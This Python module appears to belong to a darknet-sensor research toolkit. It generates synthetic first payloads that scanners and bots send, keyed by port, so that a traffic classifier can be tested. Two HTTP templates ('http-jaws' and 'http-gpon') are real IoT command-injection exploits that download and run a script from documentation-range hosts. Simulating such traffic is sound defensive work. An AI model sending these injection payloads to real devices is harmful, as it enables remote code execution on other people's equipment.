"""First payloads that clients send to a responsive sensor once it answers their SYN.

Synthetic but faithful stand-ins of what responsive darknet sensors record: HTTP probes with
scanner User-Agents and IoT exploit requests, TLS ClientHellos, SSH identification strings,
telnet option negotiation (Mirai-like bots), SMB negotiate (Conficker-era SMB1, SMB2), RDP
connection requests with an ``mstshash`` cookie, MSSQL pre-login, Oracle TNS connect with a
tool's PROGRAM, SIP OPTIONS (sipvicious), Redis, MongoDB and PostgreSQL hellos, and connections
that send nothing (the client waits for a banner). Addresses inside payloads are documentation
addresses (RFC 5737).

:data:`TEMPLATES` lists them; :data:`BY_PORT` says which a client of a destination port sends
(weights), :data:`BY_KIND` overrides it for worm populations. Each source always sends the same
template for a port (one software per host). The classification each template gets from
``teiten.sensors.classify`` is kept in ``first_payloads.json`` (a snapshot the tests check
against the classifier; refresh with ``TEITEN_UPDATE_SNAPSHOTS=1``).
"""

from __future__ import annotations

import json
import struct
from dataclasses import dataclass
from importlib import resources
from typing import Final


@dataclass(frozen=True)
class Template:
    """One first payload: its bytes and how the responder's connection ended."""

    name: str
    data: bytes
    end: str = "timeout"  # the client waits for an answer; "eof" when it hangs up itself


def _http(request: str, ua: str | None, extra: str = "", body: str = "") -> bytes:
    head = request + "\r\n" + (f"User-Agent: {ua}\r\n" if ua else "") + extra
    return (head + "\r\n" + body).encode("latin-1")


def _tls_hello(ciphers: list[int], versions: list[int] | None, alpn: bytes = b"") -> bytes:
    """A ClientHello without SNI (scanners hit addresses, not names)."""
    exts = b""
    sigalgs = [0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601, 0x0201]
    body = struct.pack("!H", 2 * len(sigalgs)) + b"".join(struct.pack("!H", s) for s in sigalgs)
    exts += struct.pack("!HH", 0x000D, len(body)) + body
    groups = b"\x00\x1d\x00\x17\x00\x18"
    exts += struct.pack("!HHH", 0x000A, len(groups) + 2, len(groups)) + groups
    exts += struct.pack("!HHB", 0x000B, 2, 1) + b"\x00"  # ec_point_formats: uncompressed
    if alpn:
        lst = bytes([len(alpn)]) + alpn
        exts += struct.pack("!HHH", 0x0010, len(lst) + 2, len(lst)) + lst
    if versions:
        vs = b"".join(struct.pack("!H", v) for v in versions)
        exts += struct.pack("!HHB", 0x002B, len(vs) + 1, len(vs)) + vs
        share = b"\x00\x1d\x00\x20" + bytes(range(32))
        exts += struct.pack("!HHH", 0x0033, len(share) + 2, len(share)) + share
    cs = b"".join(struct.pack("!H", c) for c in ciphers)
    hello = (b"\x03\x03" + bytes(range(32)) + b"\x00" + struct.pack("!H", len(cs)) + cs
             + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(hello))[1:] + hello
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def _smb1_negotiate() -> bytes:
    dialects = [b"PC NETWORK PROGRAM 1.0", b"LANMAN1.0", b"Windows for Workgroups 3.1a",
                b"LM1.2X002", b"LANMAN2.1", b"NT LM 0.12"]
    body = b"".join(b"\x02" + d + b"\x00" for d in dialects)
    hdr = (b"\xffSMB" + bytes([0x72]) + bytes(4) + b"\x18" + b"\x01\x28" + bytes(12)
           + b"\x00\x00" + b"\xff\xfe" + b"\x00\x00" + b"\x00\x00")
    msg = hdr + b"\x00" + struct.pack("<H", len(body)) + body
    return b"\x00" + struct.pack("!I", len(msg))[1:] + msg


def _smb2_negotiate() -> bytes:
    dialects = [0x0202, 0x0210, 0x0300, 0x0302, 0x0311]
    hdr = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 0, 0, 0, 0, 0, 0, 0, 0xFEFF, 0, 0,
                                    bytes(16))
    neg = (struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7F, bytes(range(16)), 0, 0, 0)
           + b"".join(struct.pack("<H", d) for d in dialects))
    msg = hdr + neg
    return b"\x00" + struct.pack("!I", len(msg))[1:] + msg


def _rdp(cookie: str, protocols: int | None) -> bytes:
    data = f"Cookie: mstshash={cookie}\r\n".encode()
    if protocols is not None:
        data += struct.pack("<BBHI", 1, 0, 8, protocols)
    x224 = bytes([6 + len(data), 0xE0]) + b"\x00\x00\x00\x00\x00" + data
    return b"\x03\x00" + struct.pack("!H", 4 + len(x224)) + x224


def _mssql_prelogin() -> bytes:
    opts = [(0, b"\x0f\x00\x07\xd0\x00\x00"), (1, b"\x00"), (2, b"\x00"), (3, b"\x00\x00\x00\x00")]
    table_len = 5 * len(opts) + 1
    table, data, at = b"", b"", table_len
    for tok, val in opts:
        table += struct.pack("!BHH", tok, at, len(val))
        data += val
        at += len(val)
    payload = table + b"\xff" + data
    return struct.pack("!BBHHBB", 0x12, 0x01, 8 + len(payload), 0, 0, 0) + payload


def _tns(program: str, host: str, user: str) -> bytes:
    """TNS CONNECT: 8-byte header, connect fields, descriptor at offset 58."""
    desc = (f"(DESCRIPTION=(CONNECT_DATA=(SID=orcl)(CID=(PROGRAM={program})(HOST={host})"
            f"(USER={user})))(ADDRESS=(PROTOCOL=TCP)(HOST=192.0.2.10)(PORT=1521)))").encode()
    offset = 58
    fields = struct.pack("!HHHHHHHHHH", 314, 300, 0x0C41, 8192, 32767, 0x4F98, 0, 0x0100,
                         len(desc), offset)
    body = fields + bytes(offset - 8 - len(fields)) + desc
    return struct.pack("!HHBBH", 8 + len(body), 0, 1, 0, 0) + body


def _sip_options() -> bytes:
    return (b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n"
            b"Via: SIP/2.0/TCP 198.51.100.23:5060;branch=z9hG4bK-1839473;rport\r\n"
            b"Max-Forwards: 70\r\nTo: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
            b"From: \"sipvicious\"<sip:100@1.1.1.1>;tag=6134323235313533\r\n"
            b"User-Agent: friendly-scanner\r\nCall-ID: 774389123461803265\r\n"
            b"Contact: <sip:100@198.51.100.23:5060>\r\nCSeq: 1 OPTIONS\r\n"
            b"Accept: application/sdp\r\nContent-Length: 0\r\n\r\n")


def _mongo_ismaster() -> bytes:
    doc = b"\x10isMaster\x00\x01\x00\x00\x00\x00"
    bson = struct.pack("<I", 4 + len(doc)) + doc
    body = struct.pack("<I", 0) + b"admin.$cmd\x00" + struct.pack("<ii", 0, 1) + bson
    return struct.pack("<IIII", 16 + len(body), 1, 0, 2004) + body


def _pg_startup() -> bytes:
    kv = b"user\x00postgres\x00database\x00postgres\x00\x00"
    return struct.pack("!II", 8 + len(kv), 196608) + kv


_UA_CHROME: Final = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                     "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")

#: Every first payload the simulator sends, by name.
TEMPLATES: Final[tuple[Template, ...]] = (
    Template("empty", b""),
    Template("http-zgrab", _http("GET / HTTP/1.1", "Mozilla/5.0 zgrab/0.x",
                                 "Accept: */*\r\nAccept-Encoding: gzip\r\n")),
    Template("http-censys", _http(
        "GET / HTTP/1.1", "Mozilla/5.0 (compatible; CensysInspect/1.1; "
        "+https://about.censys.io/)", "Accept: */*\r\n")),
    Template("http-bare", _http("GET / HTTP/1.0", None)),
    Template("http-jaws", _http(
        "GET /shell?cd+/tmp;rm+-rf+*;wget+203.0.113.77/jaws;sh+/tmp/jaws HTTP/1.1",
        "Hello, world", "Host: 127.0.0.1:80\r\nAccept: text/html,application/xhtml+xml,"
        "application/xml;q=0.9,*/*;q=0.8\r\nConnection: keep-alive\r\n"), "eof"),
    Template("http-gpon", _http(
        "POST /GponForm/diag_Form?images/ HTTP/1.1", "Hello, World",
        "Host: 127.0.0.1:8080\r\nConnection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\n"
        "Accept: */*\r\nContent-Length: 118\r\n",
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://"
        "203.0.113.9/m+-O+->/tmp/m;sh+/tmp/m&ipv=0"), "eof"),
    Template("http-env", _http("GET /.env HTTP/1.1", _UA_CHROME,
                               "Host: localhost\r\nAccept: */*\r\nConnection: keep-alive\r\n")),
    Template("http-expanse", _http(
        "GET /favicon.ico HTTP/1.1", "Expanse, a Palo Alto Networks company, searches across "
        "the global IPv4 space multiple times per day to identify customers' presences on "
        "the Internet.", "Accept: */*\r\n")),
    Template("tls12-scanner", _tls_hello([0xC02F, 0xC030, 0xC02B, 0xC02C, 0xCCA8, 0xCCA9,
                                          0xC013, 0xC009, 0xC014, 0xC00A, 0x009C, 0x009D,
                                          0x002F, 0x0035, 0xC012, 0x000A], None)),
    Template("tls13-client", _tls_hello([0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C,
                                         0xC030], [0x0304, 0x0303], b"http/1.1")),
    Template("ssh-go", b"SSH-2.0-Go\r\n"),
    Template("ssh-libssh2", b"SSH-2.0-libssh2_1.4.3\r\n"),
    Template("ssh-openssh", b"SSH-2.0-OpenSSH_7.4\r\n"),
    Template("telnet-iac-linux", b"\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1f\xff\xfb\x20"
                                 b"\xff\xfb\x21\xff\xfb\x22\xff\xfb\x27\xff\xfd\x05"),
    Template("telnet-iac-bot", b"\xff\xfb\x1f\xff\xfb\x20\xff\xfb\x18\xff\xfb\x27"
                               b"\xff\xfd\x01\xff\xfb\x03\xff\xfd\x03", "eof"),
    Template("smb1-negotiate", _smb1_negotiate(), "eof"),
    Template("smb2-negotiate", _smb2_negotiate()),
    Template("rdp-administr", _rdp("Administr", 0x0B)),
    Template("rdp-hello", _rdp("hello", 0x00)),
    Template("mssql-prelogin", _mssql_prelogin()),
    Template("tns-connect", _tns("sqlplus@scanner", "scanner", "oracle")),
    Template("sip-options", _sip_options()),
    Template("redis-info", b"*1\r\n$4\r\nINFO\r\n"),
    Template("mongodb-ismaster", _mongo_ismaster()),
    Template("postgres-startup", _pg_startup()),
    Template("dcerpc-bind", bytes.fromhex(
        "05000b03100000004800000001000000b810b810000000000100000000000100"
        "c4fefc9960521b10bbcb00aa0021347a00000000045d888aeb1cc9119fe808002b10486002000000"),
        "eof"),
    Template("radmin-probe", b"\x01\x00\x00\x00\x01\x00\x00\x08\x08", "eof"),
)

_NAMES: Final = {t.name: i for i, t in enumerate(TEMPLATES)}

_HTTP: Final[dict[str, float]] = {"http-zgrab": 3, "http-censys": 2, "http-bare": 2, "http-jaws": 1,
                "http-gpon": 1, "http-env": 1, "http-expanse": 1}

#: Destination port -> {template: weight} for clients of that port.
BY_PORT: Final[dict[int, dict[str, float]]] = {
    **{p: _HTTP for p in (80, 81, 8000, 8080, 8081, 8088, 8888, 5000, 7547, 9200)},
    **{p: {"tls12-scanner": 2, "tls13-client": 1, "empty": 1} for p in (443, 8443)},
    **{p: {"ssh-go": 3, "ssh-libssh2": 2, "ssh-openssh": 1} for p in (22, 2222)},
    **{p: {"telnet-iac-linux": 1, "telnet-iac-bot": 2, "empty": 2} for p in (23, 2323)},
    **{p: {"smb1-negotiate": 3, "smb2-negotiate": 1} for p in (445, 139)},
    3389: {"rdp-administr": 3, "rdp-hello": 1},
    1433: {"mssql-prelogin": 1},
    1521: {"tns-connect": 1},
    5060: {"sip-options": 1},
    6379: {"redis-info": 1},
    27017: {"mongodb-ismaster": 1},
    5432: {"postgres-startup": 1},
    135: {"dcerpc-bind": 1},
    4899: {"radmin-probe": 1},
}
#: Ports not listed: most clients wait for a banner, some try HTTP anyway.
DEFAULT: Final[dict[str, float]] = {"empty": 3, "http-bare": 1}
#: Worm populations send their own first payload whatever the port.
BY_KIND: Final[dict[str, dict[str, float]]] = {
    "conficker": {"smb1-negotiate": 1},
    "mirai": {"telnet-iac-bot": 1, "empty": 1},
}


def template_index(name: str) -> int:
    """Index of a template in :data:`TEMPLATES`.

    Examples
    --------
    >>> TEMPLATES[template_index("ssh-go")].data
    b'SSH-2.0-Go\\r\\n'
    """
    return _NAMES[name]


def classifications() -> dict[str, tuple[str, dict[str, str]]]:
    """The classifier's (protocol, fields) of each template, from ``first_payloads.json``.

    Examples
    --------
    >>> classifications()["rdp-hello"]
    ('rdp', {'cookie': 'mstshash=hello', 'requested_protocols': 'rdp'})
    """
    text = resources.files("teiten.simulate").joinpath("first_payloads.json").read_text(
        encoding="utf-8")
    raw = json.loads(text)
    return {k: (str(v["protocol"]), {str(a): str(b) for a, b in v["fields"].items()})
            for k, v in raw.items()}


__all__ = ["BY_KIND", "BY_PORT", "DEFAULT", "TEMPLATES", "Template", "classifications",
           "template_index"]
